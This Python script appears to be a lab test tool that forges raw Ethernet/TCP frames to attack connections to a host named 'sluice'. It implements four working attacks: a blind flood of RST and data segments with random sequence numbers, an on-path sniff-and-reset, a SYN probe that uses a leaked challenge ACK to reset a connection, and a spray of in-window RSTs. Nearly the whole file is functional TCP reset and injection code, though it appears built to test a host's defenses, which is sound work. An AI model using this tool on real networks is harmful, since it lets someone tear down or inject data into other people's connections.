"""A TCP spoofer for the lab, run inside one of its namespaces: it writes Ethernet frames straight onto a link through
an AF_PACKET socket. Its frames carry the source MAC of the host whose address they forge, as a spoofed packet routed
from afar reaches sluice through the same last hop as the real host's: what sluice answers in that host's direction
(a challenge ACK) then reaches the host.

  tcp_spoofer.py blind IFACE DST_MAC
      The blind attacker: knows a connection's addresses and ports but not its sequence numbers. Prints {"ready":
      true} once it can send, then takes its targets from stdin, a line at a time: the forged sender's MAC and one or
      more TUPLEs ("SRC:SPORT>DST:DPORT"), space-separated. Until the next line (or the end of input) it sends for
      each TUPLE in turn a RST, a RST+ACK and a 64-byte data segment (PSH+ACK), each with a fresh random sequence and
      acknowledgment number, about 3,000 frames a second in all, then prints what it sent ({"rst": N, "data": N}).
      An empty line pauses.
  tcp_spoofer.py exact IFACE DST_MAC SPORT DST QUIET
      The on-path attacker: sniffs IFACE for segments from port SPORT to address DST, and once that connection has
      been quiet for QUIET seconds sends one RST at its sender's next sequence (the sniffed seq + length). Its first
      line ({"listening": IFACE}) says it sniffs.
  tcp_spoofer.py synleak IFACE DST_MAC TUPLE
      The attacker on a LAN beside sluice, with a MAC of its own: sends one SYN of TUPLE's connection, and if a
      challenge ACK comes back to its MAC, a RST at the sequence that ACK gives away. Prints {"challenge": [seq, ack]}
      (or null) and {"rst": SEQ} when it sent one.
  tcp_spoofer.py near IFACE DST_MAC SPORT DST STOPFILE
      What a blind attacker's lucky guesses look like, in bulk: sniffing as `exact` does, it sends a RST one below the
      sender's next sequence (in the window, never exact) every few milliseconds until STOPFILE exists.
"""

import json
import logging
import os
import random
import select
import socket
import struct
import sys
import time

logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
from scapy.all import IP, TCP, Ether  # noqa: E402


ETH_P_ALL = 3
SEQ_OFFSET = 14 + 20 + 4  # Ethernet, an IPv4 header without options, the ports
CHECKSUM_OFFSET = 14 + 20 + 16
FRAMES_PER_SECOND = 3000


def fold(total):
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


class Segment:
    """A frame built once by scapy whose sequence and acknowledgment numbers are then rewritten in place: the TCP
    checksum is the one's-complement sum, so it is patched from the template's (RFC 1624) instead of scapy building
    every frame (about 1 ms each, too slow for a flood)."""

    def __init__(self, src_mac, dst_mac, tuple_text, flags, payload=b""):
        src, dst = tuple_text.split(">")
        (src_ip, sport), (dst_ip, dport) = src.split(":"), dst.split(":")
        frame = bytes(Ether(src=src_mac, dst=dst_mac) / IP(src=src_ip, dst=dst_ip) /
                      TCP(sport=int(sport), dport=int(dport), flags=flags, seq=0, ack=0, window=8192) / payload)
        self.frame = bytearray(frame)
        self.sum = ~struct.unpack_from("!H", frame, CHECKSUM_OFFSET)[0] & 0xFFFF  # of everything but seq and ack

    def with_numbers(self, seq, ack):
        struct.pack_into("!II", self.frame, SEQ_OFFSET, seq, ack)
        total = fold(self.sum + (seq >> 16) + (seq & 0xFFFF) + (ack >> 16) + (ack & 0xFFFF))
        struct.pack_into("!H", self.frame, CHECKSUM_OFFSET, ~total & 0xFFFF)
        return bytes(self.frame)


def link(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    return s


def blind(iface, dst_mac):
    s = link(iface)
    print(json.dumps({"ready": True}), flush=True)
    rng = random.Random(28)
    while True:
        line = sys.stdin.readline()
        if not line:
            return
        if not line.split():
            continue
        src_mac, *tuples = line.split()
        segments = [Segment(src_mac, dst_mac, t, flags, payload) for t in tuples
                    for flags, payload in (("R", b""), ("RA", b""), ("PA", os.urandom(64)))]
        sent, started = 0, time.monotonic()
        while not select.select([sys.stdin], [], [], 0)[0]:
            for segment in segments:
                s.send(segment.with_numbers(rng.getrandbits(32), rng.getrandbits(32)))
                sent += 1
            ahead = sent / FRAMES_PER_SECOND - (time.monotonic() - started)
            if ahead > 0:
                time.sleep(min(ahead, 0.01))
        rounds = sent // len(segments)
        print(json.dumps({"rst": 2 * rounds * len(tuples), "data": rounds * len(tuples),
                          "seconds": round(time.monotonic() - started, 2)}), flush=True)


class Sniffer:
    """The segments a link carries from port `sport` to address `dst`: the latest connection's 4-tuple and the highest
    end (seq + length, SYN and FIN counted) its sender reached."""

    def __init__(self, iface, sport, dst):
        self.socket = link(iface)
        self.socket.settimeout(0.002)
        self.sport, self.dst = sport, socket.inet_aton(dst)
        self.tuple, self.mac, self.end, self.last = None, None, 0, 0.0

    def poll(self):
        """Reads what the link carried until it has been silent for 2 ms, or for 2 ms at most."""
        until = time.monotonic() + 0.002
        while time.monotonic() < until:
            try:
                frame = self.socket.recv(65536)
            except socket.timeout:
                return
            if len(frame) < 54 or frame[12:14] != b"\x08\x00" or frame[23] != 6 or frame[30:34] != self.dst:
                continue
            ihl = (frame[14] & 0x0F) * 4
            tcp = 14 + ihl
            src_port, dst_port, seq = struct.unpack_from("!HHI", frame, tcp)
            if src_port != self.sport:
                continue
            flags = frame[tcp + 13]
            length = struct.unpack_from("!H", frame, 16)[0] - ihl - (frame[tcp + 12] >> 4) * 4
            end = (seq + length + (flags & 0x02 != 0) + (flags & 0x01 != 0)) & 0xFFFFFFFF
            self.last = time.monotonic()
            flow = f"{socket.inet_ntoa(frame[26:30])}:{src_port}>{socket.inet_ntoa(self.dst)}:{dst_port}"
            if flow == self.tuple and ((self.end - end) & 0xFFFFFFFF) < 1 << 31:
                continue  # a retransmission or a bare ACK: not past the highest end seen
            self.tuple, self.mac, self.end = flow, ":".join(f"{b:02x}" for b in frame[6:12]), end

    def rst(self, dst_mac, seq):
        self.socket.send(Segment(self.mac, dst_mac, self.tuple, "R").with_numbers(seq & 0xFFFFFFFF, 0))


def exact(iface, dst_mac, sport, dst, quiet):
    sniffer = Sniffer(iface, sport, dst)
    print(json.dumps({"listening": iface}), flush=True)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and not (sniffer.tuple and time.monotonic() - sniffer.last >= quiet):
        sniffer.poll()
    if not sniffer.tuple:
        sys.exit(f"nothing from port {sport} to {dst} seen on {iface}")
    sniffer.rst(dst_mac, sniffer.end)
    print(json.dumps({"tuple": sniffer.tuple, "seq": sniffer.end}))


def near(iface, dst_mac, sport, dst, stopfile):
    sniffer = Sniffer(iface, sport, dst)
    print(json.dumps({"listening": iface}), flush=True)
    sent = 0
    while not os.path.exists(stopfile):
        sniffer.poll()
        if sniffer.tuple:
            sniffer.rst(dst_mac, sniffer.end - 1)
            sent += 1
    print(json.dumps({"rst": sent}))


def synleak(iface, dst_mac, tuple_text):
    attacker_mac = "02:66:00:00:00:01"
    s = link(iface)
    s.settimeout(0.1)
    s.send(Segment(attacker_mac, dst_mac, tuple_text, "S").with_numbers(random.getrandbits(32), 0))
    src, dst = (address.split(":") for address in tuple_text.split(">"))
    challenge, deadline = None, time.monotonic() + 3
    while challenge is None and time.monotonic() < deadline:
        try:
            frame = s.recv(65536)
        except socket.timeout:
            continue
        if len(frame) < 54 or frame[0:6] != bytes.fromhex(attacker_mac.replace(":", "")) or frame[23] != 6:
            continue
        tcp = 14 + (frame[14] & 0x0F) * 4
        if (socket.inet_ntoa(frame[26:30]), socket.inet_ntoa(frame[30:34])) == (dst[0], src[0]) and \
                struct.unpack_from("!HH", frame, tcp) == (int(dst[1]), int(src[1])):
            challenge = struct.unpack_from("!II", frame, tcp + 4)
    print(json.dumps({"challenge": challenge}), flush=True)
    if challenge:
        s.send(Segment(attacker_mac, dst_mac, tuple_text, "R").with_numbers(challenge[1], 0))
        print(json.dumps({"rst": challenge[1]}))


def main():
    mode, iface, dst_mac = sys.argv[1:4]
    if mode == "blind":
        blind(iface, dst_mac)
    elif mode == "exact":
        exact(iface, dst_mac, int(sys.argv[4]), sys.argv[5], float(sys.argv[6]))
    elif mode == "synleak":
        synleak(iface, dst_mac, sys.argv[4])
    elif mode == "near":
        near(iface, dst_mac, int(sys.argv[4]), sys.argv[5], sys.argv[6])
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
